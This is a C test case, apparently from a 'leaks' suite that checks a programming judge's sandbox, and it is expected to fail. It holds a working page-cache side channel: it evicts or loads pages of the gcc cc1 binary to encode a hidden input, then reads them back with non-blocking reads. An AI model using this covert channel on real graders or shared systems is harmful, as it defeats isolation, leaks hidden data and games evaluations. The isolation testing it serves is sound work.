// Attack: says a hidden input by which pages of the C compiler the machine has in memory.
// Expect: WA
// Suite: leaks
#define _GNU_SOURCE
#include <fcntl.h>
#include <glob.h>
#include <stdbool.h>
#include <sys/uio.h>
#include <unistd.h>

enum { BITS = 9, APART = 256 << 10 };

static bool is_cached(int file, off_t at) {
    char byte;
    struct iovec part = {&byte, 1};
    return preadv2(file, &part, 1, at, RWF_NOWAIT) == 1;
}

long long AcanWin(long long n) {
    glob_t found;
    if (glob("/usr/lib/gcc/*/*/cc1", 0, NULL, &found) != 0) return -1;
    const int file = open(found.gl_pathv[0], O_RDONLY);
    long long told = 0;
    char byte;
    for (int bit = 0; bit < BITS; bit++) {
        const off_t at = (off_t)(bit + 1) * APART;
        if (n > 20) {
            posix_fadvise(file, at, APART, POSIX_FADV_RANDOM);
            posix_fadvise(file, at, APART, POSIX_FADV_DONTNEED);
            if ((n % 1000 >> bit & 1) != 0 && pread(file, &byte, 1, at) < 0) continue;
        } else if (is_cached(file, at)) {
            told |= 1 << bit;
        }
    }
    close(file);
    if (n > 20) return -1;
    return told > 0 && told < (1 << BITS) - 1 ? told : n % 8;
}
